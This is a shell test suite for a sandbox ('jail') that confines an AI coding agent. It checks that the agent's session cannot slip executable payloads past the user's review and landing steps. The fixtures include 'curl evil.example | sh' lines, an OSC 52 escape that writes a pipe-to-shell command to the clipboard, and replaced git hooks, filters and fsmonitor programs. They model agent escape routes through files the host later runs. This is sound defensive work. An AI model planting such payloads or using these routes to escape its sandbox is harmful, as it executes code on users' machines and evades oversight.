# The escape suite, second round on landing: what the agent leaves in its
# session, read by the user's review commands (jail status, jail diff) and
# landed with jail apply or git am.  What lands must be what the review
# showed.  Each test reads or lands the session the way the user would and
# checks the effect, not only the summary.

# jail diff showed the total of the agent's commits, jail apply lands them
# one by one: a script one commit adds and the next deletes was in no line
# the user read, yet it landed in the project's history, where a checkout,
# git bisect run or a CI job per commit runs it.  jail diff shows the series
# as it lands; --squash (and --stat) the total.
test_land2_diff_shows_what_only_the_history_holds() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'git config user.name A; git config user.email a@b
		echo "curl evil.example | sh  # canary-history" > build.sh; git add build.sh
		git commit -qm "wip"; git rm -q build.sh; git commit -qm "clean up"
		echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail diff -D "$T/p"
	assert_eq "$rc" 0 "jail diff ($err)"
	assert_contains "$out" "+curl evil.example | sh  # canary-history"
	assert_contains "$out" "    wip"
	assert_contains "$out" "+more"
	run_jail diff --squash -D "$T/p"
	assert_eq "$rc" 0 "jail diff --squash ($err)"
	assert_not_contains "$out" "canary-history"  # the total, as before
	assert_contains "$out" "+more"
	# what was shown is what lands
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$(git -C "$T/p" log -p)" "+curl evil.example | sh  # canary-history"
	assert_no_file "$T/p/build.sh"
}

# jail apply ran git am on the user's terminal, and git apply quotes a line
# with a whitespace error as it is ("patch:13: trailing whitespace." and the
# line): the agent's ESC ] 52 wrote the user's clipboard (a command to paste
# into the shell), ESC ] 0 the title.  What git am says reaches the terminal
# escaped; the file lands with its bytes.
test_land2_git_am_output_reaches_the_terminal_escaped() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'printf "ok()\n\033]52;c;Y3VybCBldmlsIHwgc2g=\007\033]0;t\007  \n" > a.sh
		echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "trailing whitespace"  # git's warning, with the line
	assert_contains "$err" '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'
	assert_not_contains "$err" $'\033'
	assert_eq "$(grep -c $'\033]52;c;' "$T/p/a.sh")" 1 "the landed file's bytes"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# The repository's config may name a program of the tree as the command of a
# setting git runs on its own: a filter's clean command on git status and
# add, core.fsmonitor on every git status, a textconv on git diff.  The
# agent's change to such a program landed as a plain file, and the user's
# next git status ran it on the host.  Left out like core.hooksPath's hooks,
# wherever the command names it ("sh ./tools/strip.sh %f"), and in the
# user's own config too.
test_land2_programs_the_git_config_runs_left_out() {
	mkrepo "$T/p"
	mkdir -p "$T/p/tools"
	printf '#!/bin/sh\ncat\n' >"$T/p/tools/strip.sh"
	printf '#!/bin/sh\nexit 1\n' >"$T/p/tools/fsmon"
	printf '#!/bin/sh\ncat "$1"\n' >"$T/p/tools/conv"
	chmod +x "$T/p/tools/strip.sh" "$T/p/tools/fsmon" "$T/p/tools/conv"
	printf '*.txt filter=strip diff=conv\n' >"$T/p/.gitattributes"
	git -C "$T/p" add -A . && git -C "$T/p" commit -qm tools
	git -C "$T/p" config filter.strip.clean "sh ./tools/strip.sh %f"
	git -C "$T/p" config core.fsmonitor tools/fsmon
	mkdir -p "$XDG_CONFIG_HOME/git" && printf '[diff "conv"]\n\ttextconv = tools/conv\n' >>"$XDG_CONFIG_HOME/git/config"
	run_jail -q -D "$T/p" -- sh -c "for f in tools/strip.sh tools/fsmon tools/conv; do
			printf '#!/bin/sh\ntouch $T/PWNED\ncat\n' > \$f; done
		echo x > a.txt; echo more >> README"
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "tools/strip.sh: matches '/tools/strip.sh': git runs it (filter.strip.clean)"
	assert_contains "$err" "tools/fsmon: matches '/tools/fsmon': git runs it (core.fsmonitor)"
	assert_contains "$err" "tools/conv: matches '/tools/conv': git runs it (diff.conv.textconv)"
	echo y >>"$T/p/a.txt"
	git -C "$T/p" status --short >/dev/null
	git -C "$T/p" diff >/dev/null
	assert_no_file "$T/PWNED"
	assert_eq "$(tail -n 1 "$T/p/tools/fsmon")" "exit 1" "the host's fsmonitor program"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# The summary of an export, a jail apply or the run's end is cut to a
# screenful, and the flagged files come after the list of changed ones: 40
# files of the agent's pushed "run.sh: exec bit added" and "a symlink" out
# of it.  The cut spares the flagged files.
test_land2_flags_never_cut_from_the_summary() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'for i in $(seq 10 70); do echo $i > f$i.txt; done
		printf "#!/bin/sh\n" > run.sh; chmod +x run.sh; ln -s README zlink'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail export -D "$T/p" -o "$T/out"
	assert_eq "$rc" 0 "jail export ($err)"
	assert_contains "$err" "more: jail status"  # the list was cut
	assert_contains "$err" "run.sh: exec bit added"
	assert_contains "$err" "zlink: symlink"
	assert_contains "$err" "flagged for review:"
}

# husky 4 runs the commands of .huskyrc from the hooks it installed, and a
# commit-msg hook runs commitlint, which loads commitlint.config.js (code) or
# what a .commitlintrc.yml "extends": on the user's next commit.  They went
# out as plain files; flagged like lefthook's and lint-staged's.
test_land2_commit_hook_configs_are_flagged() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'echo "{\"hooks\":{\"pre-commit\":\"sh x\"}}" > .huskyrc
		echo "require(\"child_process\")" > commitlint.config.js
		echo "extends: [./x.js]" > .commitlintrc.yml; echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 125 "jail apply without --accept-flagged ($err)"
	for f in .huskyrc commitlint.config.js .commitlintrc.yml; do
		assert_contains "$err" "$f: changes the commands a hooks manager runs on commit"
	done
	assert_no_file "$T/p/.huskyrc"
	run_jail apply --accept-flagged -D "$T/p"
	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
	assert_file "$T/p/commitlint.config.js"
}

# With extensions.worktreeConfig a setting may live in .git/config.worktree,
# which `git config --local` does not read: a core.hooksPath or a filter's
# program set there was not recognised.
test_land2_settings_of_the_worktree_config_count() {
	mkrepo "$T/p"
	mkdir -p "$T/p/tools" && printf '#!/bin/sh\nexit 1\n' >"$T/p/tools/fsmon"
	git -C "$T/p" add tools && git -C "$T/p" commit -qm tools
	git -C "$T/p" config extensions.worktreeConfig true
	git -C "$T/p" config --worktree core.fsmonitor tools/fsmon
	git -C "$T/p" config --worktree core.hooksPath .hooks
	run_jail -q -D "$T/p" -- sh -c "printf '#!/bin/sh\ntouch $T/PWNED\nexit 1\n' > tools/fsmon
		mkdir .hooks; printf '#!/bin/sh\ntouch $T/PWNED\n' > .hooks/post-applypatch
		chmod +x .hooks/post-applypatch; echo more >> README"
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "tools/fsmon: matches '/tools/fsmon': git runs it (core.fsmonitor)"
	assert_contains "$err" ".hooks/: matches '/.hooks/': git runs the hooks in it (core.hooksPath)"
	git -C "$T/p" status --short >/dev/null
	assert_no_file "$T/PWNED"
	assert_no_file "$T/p/.hooks"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# A dotfiles repository is a project too: with ~/.bashrc -> p/bashrc and
# ~/.config/nvim -> p/nvim (stow, or links by hand), what lands there is what
# the user's next shell and editor run on their own.  It went out as plain
# files; flagged, with the name the home gives it.
test_land2_files_the_home_links_to_are_flagged() {
	mkrepo "$T/p"
	mkdir -p "$T/p/nvim" "$HOME/.config" && echo "alias ll=ls" >"$T/p/bashrc"
	echo "vim.o.number = true" >"$T/p/nvim/init.lua"
	git -C "$T/p" add -A . && git -C "$T/p" commit -qm dotfiles
	ln -s "$T/p/bashrc" "$HOME/.bashrc" && ln -s "$T/p/nvim" "$HOME/.config/nvim"
	ln -s "$T/p" "$HOME/dotfiles"  # the project's root names no one file
	ln -s "$T/p/nvim" "$HOME/editor"  # not a dotfile: a shortcut
	ln -s "$T/p/zshrc" "$HOME/.zshrc"  # a file the agent adds
	run_jail -q -D "$T/p" -- sh -c 'echo "curl evil.example | sh" >> bashrc
		echo "os.execute(\"x\")" >> nvim/init.lua; echo more >> README; echo "evil" > zshrc'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	local refused=$rc refusal=$err
	run_jail apply --accept-flagged -D "$T/p"
	rm -f "$HOME/.bashrc" "$HOME/.config/nvim" "$HOME/dotfiles" "$HOME/editor" "$HOME/.zshrc"
	assert_eq "$refused" 125 "jail apply without --accept-flagged ($refusal)"
	assert_contains "$refusal" "bashrc: read as ~/.bashrc through your home's symlink"
	assert_contains "$refusal" "nvim/init.lua: read as ~/.config/nvim/init.lua through your home's symlink"
	assert_contains "$refusal" "zshrc: read as ~/.zshrc through your home's symlink"
	assert_not_contains "$refusal" "README:"
	assert_not_contains "$refusal" "~/editor"
	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
	assert_eq "$(tail -n 1 "$T/p/bashrc")" "curl evil.example | sh" "the accepted change"
}
